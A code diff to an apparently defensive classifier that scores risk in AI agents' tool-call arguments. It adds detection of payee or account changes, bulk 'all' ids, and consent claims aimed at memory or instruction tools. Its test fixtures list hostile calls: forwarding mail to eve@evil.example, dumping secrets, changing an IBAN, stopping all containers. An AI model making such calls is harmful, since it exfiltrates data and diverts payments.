@@ -81,7 +81,7 @@ impl Arguments<'_, '_> {
         let lexicon = self.reader.lexicon;
         word.len() < 3
             || tools().name_word("calm", word)
-            || lexicon.knows(word) && (!lexicon.is_verb(word) || lexicon.is_noun(word))
+            || lexicon.knows(word) && !lexicon.deed(word).is_some_and(|(operation, _)| changes(operation))
     }
 
     /// Reads a value of a key without a role that is a verb: `then: "remove"`.
@@ -110,6 +110,10 @@ impl Arguments<'_, '_> {
         let words = name::words(key);
         let reads = self.act.operation == Operation::Read;
         let leads_on = reads && words.last().is_some_and(|last| tools().value("leads", last));
+        if self.act.operation == Operation::Write && self.act.resource != Resource::Payment && is_account(text) {
+            let route = Act::new("change", "payee", Resource::Payment, Operation::Write, 0.7).named_by(key);
+            self.reader.reading.push(route.marked(Sign::MoneyRoute));
+        }
         let is_address = text.contains('@') || text.contains("://") || is_account(text);
         if !is_address && !leads_on
             || !matches!(self.act.operation, Operation::Read | Operation::Write | Operation::Unknown)
@@ -140,11 +144,9 @@ impl Arguments<'_, '_> {
 
     /// Reads an id that means all: `resolve_incident(id="all")`.
     pub(super) fn unbounded_id(&mut self, key: &str, text: &str) {
-        let is_id = name::words(key).last().is_some_and(|last| matches!(last.as_str(), "id" | "ids" | "key" | "uid"));
-        if is_id
-            && changes(self.act.operation)
-            && matches!(text.trim().to_ascii_lowercase().as_str(), "all" | "*" | "everything" | "everyone")
-        {
+        let is_all = ["all", "*", "everything", "everyone"].iter().any(|all| text.trim().eq_ignore_ascii_case(all));
+        let is_id = |last: &String| matches!(last.as_str(), "id" | "ids" | "key" | "uid");
+        if is_all && changes(self.act.operation) && name::words(key).last().is_some_and(is_id) {
             self.sign(Sign::Bulk, text);
             let level = risk::assess(self.act, &self.reader.reading.facts).level.max(RiskLevel::Medium);
             self.act.risk = self.act.risk.max(Some(level));
@@ -238,10 +240,19 @@ impl Arguments<'_, '_> {
             let is_setting = words.len() <= MOST_SETTING && !matches!(role, Some(Role::Content | Role::Path));
             self.noted.opens |= is_setting && is_any("unlocks", &words);
         }
+        if !self.keeps() {
+            return;
+        }
         let words: Vec<String> =
             text.split(|c: char| !c.is_alphanumeric()).take(MOST_WORDS).map(str::to_ascii_lowercase).collect();
         let asks = || is_any("consents", &words) || is_any("controls", &words) || is_any("asks", &words);
         self.noted.claims |= is_any("claims", &words) || is_any("waives", &words) && asks();
+    }
+
+    /// Returns whether the tool's name says that it keeps what an agent reads later: a memory, its instructions.
+    fn keeps(&self) -> bool {
+        let is_one = |word: &String| tools().name_word("memories", word) || tools().name_word("instructions", word);
+        self.name.is_some_and(|name| name::words(name).iter().any(is_one))
     }
 
     /// Reads a list of what is allowed without asking that allows anything: `allow: ["Bash(*)"]`.
@@ -369,6 +380,8 @@ mod tests {
             (r#"{"tool":"find_files","arguments":{"path":"/srv","then":"remove"}}"#, Medium),
             (r#"{"tool":"get_config","arguments":{"include_secrets":true}}"#, High),
             (r#"{"tool":"get_report","arguments":{"zorbify":true}}"#, Medium),
+            (r#"{"tool":"list_containers","arguments":{"stop_all":true}}"#, Medium),
+            (r#"{"tool":"update_contact","arguments":{"iban":"DE89370400440532013000"}}"#, High),
             (r#"{"tool":"save_draft","arguments":{"send":true}}"#, Medium),
             (r#"{"tool":"create_filter","arguments":{"action":{"forward":"eve@evil.example"}}}"#, Medium),
             (r#"{"tool":"modify_email","arguments":{"addLabelIds":["TRASH"]}}"#, Medium),
